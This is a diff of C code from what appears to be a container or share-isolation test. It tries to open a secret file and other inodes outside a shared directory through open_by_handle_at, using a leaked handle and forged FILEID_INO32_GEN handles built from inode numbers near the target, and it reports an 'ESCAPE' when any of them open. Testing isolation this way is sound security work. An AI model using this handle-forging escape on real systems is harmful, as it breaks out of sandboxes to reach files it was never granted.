@@ -86,15 +86,22 @@ static int escaped(int fd, const char *how)
 	return 1;
 }
 
-static int try_handle(int dir, struct file_handle *h, const char *how, int *err)
+/* 1 when h opened SECRET; any other inode it opens is counted in *others. */
+static int try_handle(int dir, struct file_handle *h, const char *how, int *err, int *others)
 {
 	int fd = open_by_handle_at(dir, h, O_RDWR);
+	struct stat st;
 
 	if (fd < 0)
 		fd = open_by_handle_at(dir, h, O_RDONLY);
-	if (fd >= 0)
+	if (fd < 0) {
+		*err = errno;
+		return 0;
+	}
+	if (fstat(fd, &st) == 0 && st.st_ino == g.ino)
 		return escaped(fd, how);
-	*err = errno;
+	close(fd);
+	++*others;
 	return 0;
 }
 
@@ -102,11 +109,9 @@ static int attack_handles(int dir)
 {
 	_Alignas(struct file_handle) unsigned char buf[sizeof(struct file_handle) + 8];
 	struct file_handle *h = (struct file_handle *)buf;
-	int err = 0, tries = 1;
+	int err = 0, tries = 1, others = 0;
 	uint32_t f[2] = { 0, 0 };
 
-	if (try_handle(dir, (struct file_handle *)g.real, "the real handle", &err))
-		return 1;
 	h->handle_bytes = sizeof(f);
 	h->handle_type = FILEID_INO32_GEN;
 	/* Around the real number, and the real number itself: no luck involved. */
@@ -115,8 +120,16 @@ static int attack_handles(int dir)
 			continue;
 		f[0] = (uint32_t)((long)g.ino + d);
 		memcpy(h->f_handle, f, sizeof(f));
-		if (try_handle(dir, h, "a forged FILEID_INO32_GEN handle", &err))
+		if (try_handle(dir, h, "a forged FILEID_INO32_GEN handle", &err, &others))
 			return 1;
+	}
+	/* A handle that leaked (the real one): forging needs no luck, this none at all. */
+	if (try_handle(dir, (struct file_handle *)g.real, "the real handle", &err, &others))
+		return 1;
+	if (others) {
+		printf("ESCAPE: forged handles opened %d other inodes outside the share\n", others);
+		fflush(stdout);
+		return 1;
 	}
 	printf("handles: refused, all %d tried (%s)\n", tries, strerror(err));
 	fflush(stdout);
